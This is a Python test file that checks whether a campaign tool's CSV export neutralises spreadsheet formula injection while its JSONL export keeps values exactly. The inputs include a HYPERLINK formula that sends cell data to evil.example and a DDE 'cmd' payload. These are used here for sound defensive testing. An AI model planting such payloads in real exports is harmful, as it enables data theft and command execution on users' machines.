"""Hostile input, 3: cells a spreadsheet would run as formulas are exported as text."""

from __future__ import annotations

import csv
import json

import pytest
from conftest import DATE, Campaign
from hostile_kit import mini, row

FORMULAS = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1,2)",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
]


def read_csv(path: str) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


class TestCsvExport:
    """The csv export prefixes a formula-like cell with ' so it is shown, never run."""

    @pytest.mark.parametrize("value", FORMULAS, ids=repr)
    def test_phone_cell(self, sample: Campaign, value: str) -> None:
        mini(sample, [row(phone=value)])
        result = sample.run("export", "--format", "csv", "--out", "x.csv", "--date", DATE)
        assert result.exit_code == 0, result.output
        [record] = read_csv("x.csv")
        assert record["phone"] == "'" + value

    def test_name_cells(self, sample: Campaign) -> None:
        """The recipient and salutation columns; embedded quotes survive the round trip."""
        mini(sample, [row(full_name='=cmd|" /C calc"!A0', last_name='@"Rivera"')])
        result = sample.run("export", "--format", "csv", "--out", "x.csv", "--date", DATE)
        assert result.exit_code == 0, result.output
        [record] = read_csv("x.csv")
        assert record["recipient"] == '\'=cmd|" /C calc"!A0'
        assert record["salutation"] == 'Dear Senator @"Rivera":'
        assert record["subject"] == 'Letter for Senator @"Rivera"'
        assert record["to"] == "alex@example.org"

    def test_address_starting_with_a_formula_sign(self, sample: Campaign) -> None:
        """'=1+2@example.org' is a valid address: its cell is neutralised too."""
        mini(sample, [row(email="=1+2@example.org")])
        result = sample.run("export", "--format", "csv", "--out", "x.csv", "--date", DATE)
        assert result.exit_code == 0, result.output
        assert read_csv("x.csv")[0]["to"] == "'=1+2@example.org"

    def test_harmless_cells_are_untouched(self, sample: Campaign) -> None:
        mini(sample, [row(phone="202-224-3121", note="a = b")])
        sample.run("export", "--format", "csv", "--out", "x.csv", "--date", DATE)
        assert read_csv("x.csv")[0]["phone"] == "202-224-3121"

    def test_rejects_file_is_neutralised_too(self, sample: Campaign) -> None:
        mini(sample, [row(), row(email="=bad", phone="=1+2")])
        result = sample.run("export", "--date", DATE, "--skip-invalid")
        assert result.exit_code == 0, result.output
        [reject] = read_csv("out/rejects.csv")
        assert reject["email"] == "'=bad"
        assert reject["phone"] == "'=1+2"
        assert reject["line"] == "3"


class TestJsonlIsLossless:
    """The jsonl export, for programs, keeps every value exactly as read."""

    def test_every_formula_kept(self, sample: Campaign) -> None:
        rows = [
            row(email=f"p{i}@example.org", phone=value, note=value + ' "quoted" ')
            for i, value in enumerate(FORMULAS)
        ]
        mini(sample, rows)
        result = sample.run("export", "--format", "jsonl", "--out", "x.jsonl", "--date", DATE)
        assert result.exit_code == 0, result.output
        with open("x.jsonl", encoding="utf-8") as handle:
            records = [json.loads(line) for line in handle]
        assert [r["fields"]["phone"] for r in records] == FORMULAS
        assert [r["fields"]["note"] for r in records] == [v + ' "quoted" ' for v in FORMULAS]
        assert [r["fields"] for r in records] == rows
